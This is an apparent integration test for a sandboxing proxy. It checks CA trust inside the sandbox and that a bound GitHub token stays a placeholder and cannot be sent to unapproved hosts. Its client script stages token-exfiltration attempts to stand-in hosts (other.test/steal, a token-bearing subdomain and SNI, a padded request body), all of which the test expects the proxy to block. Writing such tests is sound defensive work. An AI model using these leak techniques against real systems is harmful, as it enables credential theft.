#!/usr/bin/env bash
# `tollgate run --inspect HOST`: clients inside the sandbox reach an
# inspected HTTPS origin unmodified, trusting the gate's CA through the
# sandbox's CA bundle (/etc/ssl/certs/ca-certificates.crt is the host's plus
# the gate's CA) and the variables that name it: curl, python3 urllib and
# git through the proxy variables, Node's fetch through the transparent 443
# listener. The origin is on this test's own loopback, port 443 (Node's
# fetch ignores proxy variables and dials 443), so the test re-runs itself
# in a network namespace of its own (unshare -n), as test_run_transparent.
if [[ -z ${TOLLGATE_INSPECT_NETNS:-} ]]; then
	if [[ $(id -u) -ne 0 ]]; then echo "SKIP: needs root (namespaces)" >&2; exit 77; fi
	command -v unshare >/dev/null || { echo "SKIP: unshare(1)" >&2; exit 77; }
	exec unshare -n env TOLLGATE_INSPECT_NETNS=1 bash "$0" "$@"
fi
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/proxy_lib.sh"
source "$(dirname "$0")/inspect_lib.sh"

[[ -e /proc/self/ns/user && -e /proc/self/ns/pid ]] || skip "user and PID namespaces"
for tool in curl openssl sqlite3 ip git node; do
	command -v $tool >/dev/null || skip "$tool is not installed"
done
ip link set lo up

make_origin_pki
python3 "$TOLLGATE_SRC/tests/integration/inspect_origin.py" 443 "$ORIGIN_CERT" "$ORIGIN_KEY" \
	2>"$TEST_TMP/origin.log" &
defer "kill $! 2>/dev/null"
wait_for 10 port_open 443 || { fail "echo origin did not start"; finish; }
DB=$TEST_TMP/audit.db

cat >"$TEST_TMP/client.sh" <<'SH'
echo "env SSL_CERT_FILE=$SSL_CERT_FILE NODE_EXTRA_CA_CERTS=$NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO=$GIT_SSL_CAINFO"
echo "bundle-has-ca $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)"
echo "curl $(curl -sS --max-time 20 https://origin.test/from-curl 2>&1 | tr -d '\n')"
echo "python $(python3 -c 'import urllib.request; print(urllib.request.urlopen("https://origin.test/from-python", timeout=20).read().decode())' 2>&1 | tr -d '\n')"
echo "node $(node -e 'fetch("https://origin.test/from-node").then(r => r.text()).then(t => console.log(t)).catch(e => console.log("ERR", e.cause ? e.cause.code : e))' 2>&1 | tr -d '\n')"
echo "git $(git ls-remote https://origin.test/acme/repo.git 2>&1 | tr -d '\n')"
echo "blind $(curl -s --max-time 20 -o /dev/null https://blind.test/; echo "rc=$?")"
echo "token-env $GH_TOKEN"
curl -sS --max-time 20 -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://origin.test/with-bearer
curl -sS --max-time 20 -o /dev/null -u "octo:$GH_TOKEN" https://origin.test/with-basic
curl -sS --max-time 20 -o /dev/null "https://origin.test/in-query?access_token=$GH_TOKEN"
echo "misdirected $(curl -s --max-time 20 -o /dev/null -D - -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal | tr -d '\r' | awk '/^HTTP|^X-Tollgate/' | tr '\n' ' ')"
echo "echo-header $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-header/Authorization)"
echo "echo-chunks $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-chunks | sha256sum | cut -c1-64)"
echo "misdirected-connect $(curl -s --max-time 20 -o /dev/null -w '%{http_connect}' "https://$GH_TOKEN.blind.test/")"
echo "misdirected-sni $(echo | openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect blind.test:443 -servername "$GH_TOKEN.blind.test" 2>&1 | grep -c 'BEGIN CERTIFICATE')"
echo "misdirected-body $(head -c 20000 /dev/zero | tr '\0' 'p' >/tmp/body; echo "token=$GH_TOKEN" >>/tmp/body; curl -s --max-time 20 -o /dev/null -w '%{http_code}' --data-binary @/tmp/body https://other.test/post-body)"
echo "misdirected-basic $(curl -s --max-time 20 -o /dev/null -w '%{http_code}' -u "octo:$GH_TOKEN" https://other.test/steal2)"
SH

REAL=ghp_RealSecretValue0123456789abcdefXYZ
# other.test is inspected by the policy file's "inspect" (origin.test by the bound secret).
printf '{"version": 1, "inspect": ["other.test"]}\n' >"$TEST_TMP/policy.json"
set +e
out=$(REAL_TOKEN=$REAL timeout 120 "$TOLLGATE" run --allow origin.test --allow blind.test \
	--allow other.test --resolve origin.test:127.0.0.1 --resolve blind.test:127.0.0.1 \
	--resolve other.test:127.0.0.1 --allow-cidr 127.0.0.1/32 \
	--policy "$TEST_TMP/policy.json" --upstream-ca "$ORIGIN_CA" --audit "$DB" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test -- sh -s \
	<"$TEST_TMP/client.sh" 2>"$TEST_TMP/err")
rc=$?
set -e
expect_eq "tollgate run exits with the script's status" "$rc" 0
[[ $rc -eq 0 ]] || cat "$TEST_TMP/err" >&2
echo "$out"
result() { awk -v n="$1" '$1 == n { $1 = ""; sub(/^ /, ""); print; exit }' <<<"$out"; }
bundle=/run/tollgate/ca-certificates.crt
expect_eq "the variables name the sandbox's bundle" "$(result env)" \
	"SSL_CERT_FILE=$bundle NODE_EXTRA_CA_CERTS=$bundle GIT_SSL_CAINFO=$bundle"
host_count=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)
expect_eq "the sandbox's system bundle is the host's plus one CA" "$(result bundle-has-ca)" \
	"$((host_count + 1))"
expect_match "curl reaches the inspected origin" "$(result curl)" '"path": "/from-curl"'
expect_match "python3 urllib reaches it" "$(result python)" '"path": "/from-python"'
expect_match "Node's fetch reaches it (transparent 443)" "$(result node)" '"path": "/from-node"'
expect_match "git reaches it (TLS trusted: the origin answered)" \
	"$(grep 'REQ GET /acme/repo.git/info/refs' "$TEST_TMP/origin.log" || true)" 'git/'
expect_eq "a host not inspected stays blind: curl sees the origin's own certificate (error 60)" \
	"$(result blind)" "rc=60"
# --- a secret bound to origin.test: the sandbox holds a placeholder ------------------
ph=$(result token-env)
expect_match "the sandbox's GH_TOKEN is a placeholder" "$ph" '^tgph_[a-z0-9]{35}$'
expect_match "the origin got the real value in Authorization: Bearer" \
	"$(grep 'REQ GET /with-bearer' "$TEST_TMP/origin.log" || true)" "auth=Bearer $REAL\$"
expect_match "... inside Authorization: Basic" \
	"$(grep 'REQ GET /with-basic' "$TEST_TMP/origin.log" || true)" \
	"auth=Basic $(printf 'octo:%s' "$REAL" | base64 -w0)\$"
expect_match "... in the request line" \
	"$(grep 'REQ GET /in-query' "$TEST_TMP/origin.log" || true)" "access_token=$REAL "
expect_eq "an origin echoing the value: the sandbox gets the placeholder" "$(result echo-header)" \
	"Bearer $ph"
want=$(python3 -c 'import hashlib,sys; a=("Bearer "+sys.argv[1]).encode(); print(hashlib.sha256(b"".join(b"x"*k+a for k in range(50))).hexdigest())' "$ph")
expect_eq "... also when every 7-byte chunk boundary cuts a value" "$(result echo-chunks)" "$want"
expect_match "the placeholder sent to another inspected host is refused" \
	"$(result misdirected)" "HTTP/1.1 403 .*X-Tollgate-Reason: secret-misdirected"
expect_eq "... inside Basic credentials too" "$(result misdirected-basic)" "403"
expect_eq "... in a request body (20000 bytes in)" "$(result misdirected-body)" "403"
# Its head may have gone ahead of the body; the request never arrived whole.
expect_eq "... whose body never reached the other host" \
	"$(grep -c 'GOT /post-body' "$TEST_TMP/origin.log" || true)" "0"
expect_eq "... in a CONNECT's host name" "$(result misdirected-connect)" "403"
expect_eq "... in a blind tunnel's server_name (no TLS at all)" "$(result misdirected-sni)" "0"
expect_eq "the other host never saw it" "$(grep -c 'steal' "$TEST_TMP/origin.log" || true)" "0"
expect_match "the person is told, by the secret's name" "$(cat "$TEST_TMP/err")" \
	"secret GH_TOKEN went to other.test.*secret-misdirected"
expect_eq "the real value is not in the sandbox's output" "$(grep -c "$REAL" <<<"$out" || true)" "0"
expect_eq "... nor on tollgate's stderr" "$(grep -c "$REAL" "$TEST_TMP/err" || true)" "0"
expect_eq "... nor in the audit database" "$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
expect_eq "the audit row names the misdirected secret" \
	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "5"
expect_match "the injecting request's row names the secret" \
	"$(sqlite3 "$DB" "select json_extract(detail,'\$.secrets_injected') from events where kind='connection' and json_extract(detail,'\$.path')='/with-bearer'")" \
	"^GH_TOKEN$"

rows=$(sqlite3 "$DB" "select json_extract(detail,'\$.method')||' '||json_extract(detail,'\$.path')
	from events where kind='connection' and json_extract(detail,'\$.mode')='inspect' order by id")
expect_match "each client's request has its own inspected row" "$rows" \
	"GET /from-curl.*GET /from-python.*GET /from-node.*GET /acme/repo.git/info/refs"
finish
